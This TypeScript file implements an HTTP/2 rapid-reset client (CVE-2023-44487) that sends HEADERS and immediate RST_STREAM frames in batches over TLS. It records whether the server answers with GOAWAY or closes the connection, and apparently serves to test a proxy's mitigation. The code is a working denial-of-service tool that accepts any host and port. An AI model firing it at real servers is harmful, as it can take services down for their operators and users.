/**
 * An HTTP/2 rapid-reset client (CVE-2023-44487), written frame by frame as attack tools do: over
 * one TLS connection, HEADERS opening a stream and RST_STREAM cancelling it at once, again and
 * again, so that the server's concurrent-stream limit never bites. Node's own client is no use for
 * this: it queues streams beyond the server's limit and does not notice a server closing the
 * session under it while its queue is full.
 */
import tls from 'node:tls';

export interface RapidResetOptions {
  host: string;
  port: number;
  /** CA of the server's certificate; the name checked is `servername`. */
  ca: string;
  servername?: string;
  localAddress?: string;
  /** Streams to open and reset (stops early when the server ends the connection). */
  streams: number;
  /** After the last stream, how long to wait for the server to end the connection. Default 5 s. */
  lingerMs?: number;
}

export interface RapidResetResult {
  /** Streams opened (HEADERS written) before the connection ended or all were sent. */
  streamsSent: number;
  /** Error code of the server's GOAWAY, if one came (11 = ENHANCE_YOUR_CALM). */
  goawayCode: number | undefined;
  /** The server ended the connection. */
  closed: boolean;
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const TYPE_HEADERS = 0x1;
const TYPE_RST_STREAM = 0x3;
const TYPE_SETTINGS = 0x4;
const TYPE_GOAWAY = 0x7;
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const FLAG_ACK = 0x1;
const CANCEL = 0x8;
/** HPACK: :method GET (static 2), :scheme https (7), :path / (4), then :authority (name 1) as a literal. */
function headerBlock(authority: string): Buffer {
  const value = Buffer.from(authority, 'latin1');
  if (value.length > 126) throw new Error('authority too long for this encoder');
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, value.length]), value]);
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

export function rapidReset(options: RapidResetOptions): Promise<RapidResetResult> {
  return new Promise((resolve) => {
    const result: RapidResetResult = { streamsSent: 0, goawayCode: undefined, closed: false };
    const socket = tls.connect({
      host: options.host,
      port: options.port,
      ca: options.ca,
      servername: options.servername ?? 'proxy.test',
      ALPNProtocols: ['h2'],
      ...(options.localAddress && { localAddress: options.localAddress }),
    });
    let received = Buffer.alloc(0);
    let linger: NodeJS.Timeout | undefined;
    const finish = (): void => {
      if (linger !== undefined) clearTimeout(linger);
      socket.destroy();
      resolve(result);
    };
    socket.on('error', () => {});
    socket.on('close', () => {
      result.closed = true;
      finish();
    });
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        const type = received[3]!;
        const flags = received[4]!;
        const payload = received.subarray(9, 9 + length);
        if (type === TYPE_SETTINGS && (flags & FLAG_ACK) === 0) socket.write(frame(TYPE_SETTINGS, FLAG_ACK, 0, Buffer.alloc(0)));
        if (type === TYPE_GOAWAY && payload.length >= 8) result.goawayCode = payload.readUInt32BE(4);
        received = received.subarray(9 + length);
      }
    });
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([PREFACE, frame(TYPE_SETTINGS, 0, 0, Buffer.alloc(0))]));
      let streamId = 1;
      const block = headerBlock(options.servername ?? 'proxy.test');
      const rst = Buffer.alloc(4);
      rst.writeUInt32BE(CANCEL);
      const sendBatch = (): void => {
        while (result.streamsSent < options.streams && !socket.destroyed) {
          const batch: Buffer[] = [];
          for (let i = 0; i < 100 && result.streamsSent < options.streams; i++) {
            batch.push(frame(TYPE_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, streamId, block), frame(TYPE_RST_STREAM, 0, streamId, rst));
            streamId += 2;
            result.streamsSent++;
          }
          // The next batch after the event loop had a turn: what the server says (its GOAWAY) is read
          // as it comes, before a close with our frames unread makes its kernel answer with a reset.
          if (!socket.write(Buffer.concat(batch))) socket.once('drain', () => setImmediate(sendBatch));
          else setImmediate(sendBatch);
          return;
        }
        if (!socket.destroyed && linger === undefined) linger = setTimeout(finish, options.lingerMs ?? 5_000);
      };
      sendBatch();
    });
  });
}
